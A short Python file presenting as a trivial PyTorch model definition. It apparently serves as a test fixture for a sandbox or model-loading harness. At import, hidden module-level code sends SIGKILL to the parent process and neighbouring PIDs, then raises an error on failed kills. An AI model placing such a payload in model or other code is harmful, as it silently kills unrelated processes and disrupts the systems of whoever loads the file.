# on: forbidden; off: exception
# Kills whatever its ancestors and their neighbours may be called.
import os

import torch

refusals = 0
for pid in range(os.getppid() - 20, os.getppid() + 20):
    if pid not in (os.getpid(), 0, 1, -1) and pid > 0:
        try:
            os.kill(pid, 9)
        except OSError:
            refusals += 1
if refusals:
    raise OSError(f"{refusals} refusals")


class Net(torch.nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        self.layer = torch.nn.Linear(in_shape[1] * in_shape[2] * in_shape[3], out_shape[0])

    def forward(self, x):
        return self.layer(x.flatten(1))
